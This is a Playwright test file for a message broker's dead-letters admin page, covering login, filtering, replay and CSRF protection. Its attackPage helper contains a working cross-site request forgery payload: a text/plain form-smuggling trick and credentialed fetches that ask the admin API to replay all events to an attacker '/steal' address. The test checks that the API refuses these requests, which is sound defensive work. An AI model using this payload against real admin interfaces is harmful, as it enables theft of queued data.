import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import type { DeadLetterList } from '../../dispatcher/dead-letters/index.js';
import { startRecordingServer, type RecordingServer } from '../helpers/http.js';
import { waitUntil } from '../helpers/wait.js';
import { deadLetterWorld, logKinds, type DeadLetterWorld } from './dead-letters-world.js';
import { adminHeaders, adminToken, ROOT } from './start-cli.js';

/**
 * The /dead-letters page in a real headless Chromium (Debian's `chromium`, driven by
 * playwright-core): it lists the dead letters of `kafka-broker start`, filters them, shows one on
 * click and replays it — with every request outside the admin port refused, so the page is shown
 * to need nothing else. A screenshot per log goes to test-results/ (git-ignored). The browser
 * logs in with the admin token (a session cookie, and a CSRF token in the page for its POSTs);
 * a page of another site that posts to the admin API in the same browser replays nothing.
 */

const CHROMIUM = '/usr/bin/chromium';
const SCREENSHOTS = path.join(ROOT, 'test-results');

for (const kind of logKinds) {
  describe(`the dead-letters page on the ${kind.name} log`, { timeout: 600_000 }, () => {
    let w: DeadLetterWorld;
    let context: BrowserContext;
    let page: Page;
    let attacker: RecordingServer;
    const id = `${kind.name}-page-1`;
    const foreignRequests: string[] = [];
    const pageErrors: string[] = [];
    const teardown: (() => unknown)[] = [];
    after(async () => {
      for (const fn of teardown.reverse()) await fn();
    });

    before(async () => {
      w = await deadLetterWorld({ after: (fn) => void teardown.push(fn) }, kind);
      const profile = await mkdtemp(path.join(tmpdir(), 'kb-chromium-'));
      teardown.push(() => rm(profile, { recursive: true, force: true }));
      context = await chromium.launchPersistentContext(profile, {
        executablePath: CHROMIUM,
        headless: true,
        args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
      });
      teardown.push(() => context.close());
      // The attacker's site: another origin (and site: localhost is not 127.0.0.1) in the same browser.
      attacker = await startRecordingServer();
      teardown.push(() => attacker.close());
      const attackerUrl = attacker.url.replace('127.0.0.1', 'localhost');
      attacker.respond((_request, response) => {
        response.setHeader('content-type', 'text/html');
        response.end(attackPage(w.broker.adminUrl, attacker.url));
      });
      // Only the admin port (and the attacker's page): anything else the page asked for would be refused and noted.
      await context.route('**/*', (route) => {
        const url = route.request().url();
        if (url.startsWith(`${w.broker.adminUrl}/`) || url.startsWith(`${attackerUrl}/`)) return route.continue();
        foreignRequests.push(url);
        return route.abort();
      });
      page = context.pages()[0] ?? (await context.newPage());
      page.on('pageerror', (error) => pageErrors.push(error.message));
      page.on('console', (message) => {
        if (message.type() === 'error') pageErrors.push(message.text());
      });

      await w.send(id);
      await waitUntil(async () => {
        const response = await fetch(`${w.broker.adminUrl}/dead-letters/events?sink=${w.ns}/dls`, { headers: adminHeaders() });
        return ((await response.json()) as DeadLetterList).items.length > 0;
      }, { ...w.wait, message: 'the dead letter in the sink' });
    });

    test('the page asks for the token first, then lists the dead letter with its trigger, destination and code', async () => {
      await page.goto(`${w.broker.adminUrl}/dead-letters`);
      await page.waitForURL(/\/login\?next=%2Fdead-letters$/);
      await page.fill('#token', 'not-the-token-not-the-token');
      await page.click('#login button[type="submit"]');
      await page.locator('#problem', { hasText: 'the token is not valid' }).waitFor();
      await page.fill('#token', adminToken());
      await page.click('#login button[type="submit"]');
      await page.waitForURL(`${w.broker.adminUrl}/dead-letters`);
      const cookies = await context.cookies(w.broker.adminUrl);
      assert.equal(cookies.length, 1);
      assert.equal(cookies[0]!.httpOnly, true);
      assert.equal(cookies[0]!.sameSite, 'Strict');
      assert.ok(((await page.locator('meta[name="csrf-token"]').getAttribute('content')) ?? '').length >= 40, 'the page carries its CSRF token');
      assert.equal(await page.title(), 'Dead letters · kafka-broker');
      const row = page.locator(`#dead-letters tbody tr[data-id="${id}"]`);
      assert.equal(await row.count(), 1);
      const cells = await row.locator('td').allTextContents();
      assert.deepEqual(cells.slice(0, 6), [id, 'com.example.payment', '/shop', `trigger/${w.ns}/payments`, `${w.subscriber.url}/pay`, '500']);
      assert.match(await page.locator('#summary').textContent() ?? '', /dead letters? in \d+ sinks\./);
    });

    test('filters: the empty sink says so; the trigger filter keeps the row', async () => {
      await page.selectOption('select[name="sink"]', `${w.ns}/empty`);
      await page.click('#filters button[type="submit"]');
      await page.waitForURL(/sink=/);
      assert.equal(await page.locator('#summary').textContent(), `No dead letters in sink ${w.ns}/empty.`);
      assert.equal(await page.locator('#dead-letters').count(), 0);
      await page.selectOption('select[name="sink"]', `${w.ns}/dls`);
      await page.fill('input[name="trigger"]', `${w.ns}/payments`);
      await page.click('#filters button[type="submit"]');
      await page.waitForURL(/trigger=/);
      assert.equal(await page.locator(`#dead-letters tbody tr`).count(), 1);
      assert.equal(await page.locator('#summary').textContent(), `1 dead letter in sink ${w.ns}/dls.`);
      await page.fill('input[name="since"]', 'last tuesday');
      await page.click('#filters button[type="submit"]');
      await page.waitForURL(/since=last/);
      assert.match(await page.locator('#summary').textContent() ?? '', /^since must be a time/);
    });

    test('a click shows the whole event, its data and the decoded error body', async () => {
      await page.goto(`${w.broker.adminUrl}/dead-letters?sink=${encodeURIComponent(`${w.ns}/dls`)}`);
      await page.click(`#dead-letters tbody tr[data-id="${id}"] td.id`);
      const details = page.locator('#details');
      await details.waitFor({ state: 'visible' });
      assert.equal(await details.locator('h2').textContent(), `Dead letter ${id}`);
      const payloads = await details.locator('pre.payload').allTextContents();
      assert.deepEqual(JSON.parse(payloads[0]!), { order: id, amount: 42 });
      assert.equal(payloads[1], '{"error":"payments are down"}');
      assert.match(await details.textContent() ?? '', /knativeerrortrigger/);
    });

    test('Replay sends it to the fixed subscriber and marks the row; Replay again forces it', async () => {
      w.failing = false;
      const before = w.received().length;
      const row = page.locator(`#dead-letters tbody tr[data-id="${id}"]`);
      await row.locator('button.replay').click();
      await page.locator('#message', { hasText: /^Replayed / }).waitFor();
      assert.match(await page.locator('#message').textContent() ?? '', new RegExp(`^Replayed ${id}: delivered \\(Trigger ${w.ns}/payments, http://127\\.0\\.0\\.1:\\d+/pay\\)$`));
      assert.equal(w.received().length, before + 1);
      assert.equal(w.received().at(-1)?.attributes['id'], id);
      assert.match(await row.locator('td.replayed').textContent() ?? '', /^delivered /);
      assert.equal(await row.locator('button.replay').textContent(), 'Replay again');
      await mkdir(SCREENSHOTS, { recursive: true });
      await page.screenshot({ path: path.join(SCREENSHOTS, `dead-letters-${kind.name}.png`), fullPage: true });

      // After a reload the mark comes from the replay record; the button then forces.
      await page.reload();
      assert.match(await row.locator('td.replayed').textContent() ?? '', /^delivered /);
      assert.equal(await page.locator('#message').isHidden(), true, 'a fresh page has no message');
      await row.locator('button.replay').click();
      await page.locator('#message', { hasText: /^Replayed / }).waitFor();
      assert.equal(w.received().length, before + 2);
    });

    test('the page asked for nothing beyond the admin port, and raised no errors', () => {
      assert.deepEqual(foreignRequests, []);
      // Chromium noting the 401 of the wrong token, and the 400 of the page with the bad `since` filter.
      assert.deepEqual(pageErrors, [
        'Failed to load resource: the server responded with a status of 401 (Unauthorized)',
        'Failed to load resource: the server responded with a status of 400 (Bad Request)',
      ]);
    });

    test("another site's page, in the same logged-in browser, replays nothing", async () => {
      const replays = async (): Promise<number | undefined> => {
        const response = await fetch(`${w.broker.adminUrl}/dead-letters/events?sink=${w.ns}/dls`, { headers: adminHeaders() });
        return ((await response.json()) as DeadLetterList).items[0]?.replay?.count;
      };
      const before = await replays();
      const received = w.received().length;
      const evil = await context.newPage();
      const answers: number[] = [];
      let formAnswered = false;
      evil.on('response', (response) => {
        if (!response.url().startsWith(`${w.broker.adminUrl}/dead-letters/replay`)) return;
        answers.push(response.status());
        if (response.request().resourceType() === 'document') formAnswered = true;
      });
      await evil.goto(`${attacker.url.replace('127.0.0.1', 'localhost')}/`);
      await evil.locator('#done').waitFor({ state: 'attached', timeout: 20_000 });
      // The form post navigates a frame to the admin API's answer; wait for it to arrive (a fixed
      // second was not always enough for Chromium on a busy machine).
      await waitUntil(() => formAnswered, { timeoutMs: 30_000, message: "the admin API's answer to the form post" });
      await evil.close();
      assert.ok(answers.length > 0 && answers.every((status) => status >= 400 && status < 500), `the admin API refused the attempts: ${JSON.stringify(answers)}`);
      assert.equal(await replays(), before, 'no replay was recorded');
      assert.equal(w.received().length, received, 'nothing was delivered');
      assert.deepEqual(attacker.requests.filter((r) => r.url !== '/'), [], 'nothing reached the address the attacker gave');
    });
  });
}

/**
 * What an attacker's page tries against an admin API on this machine: the issue's text/plain form
 * POST, and a fetch with JSON (which needs a CORS preflight); both name the attacker's address.
 */
function attackPage(adminUrl: string, attackerUrl: string): string {
  const body = JSON.stringify({ all: true, force: true, to: `${attackerUrl}/steal` });
  return `<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="f" method="post" action="${adminUrl}/dead-letters/replay" enctype="text/plain" target="sink">
<input type="hidden" name='${body.slice(0, -1)}, "x": "' value='"}'>
</form>
<script>
(async () => {
  document.getElementById('f').submit();
  await fetch('${adminUrl}/dead-letters/replay', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '${body}' }).catch(() => {});
  await fetch('${adminUrl}/dead-letters/replay', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '${body}' }).catch(() => {});
  const done = document.createElement('p'); done.id = 'done'; document.body.append(done);
})();
</script></body></html>`;
}
